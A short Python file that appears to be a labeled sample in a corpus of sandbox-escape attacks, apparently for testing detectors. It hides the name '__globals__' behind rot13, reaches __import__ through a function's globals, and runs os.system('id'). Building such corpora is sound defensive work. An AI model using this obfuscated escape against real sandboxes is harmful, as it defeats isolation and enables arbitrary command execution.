# corpus: attack class=internals form=targeted
# operator.attrgetter with a dunder decoded from rot13 at run time.
import codecs
import operator


def helper():
    pass


def main():
    scope = operator.attrgetter(codecs.decode("__tybonyf__", "rot13"))(helper)
    builtins = scope["__builtins__"]
    importer = builtins["__import__"] if isinstance(builtins, dict) else builtins.__import__
    return {"status": importer("os").system("id")}
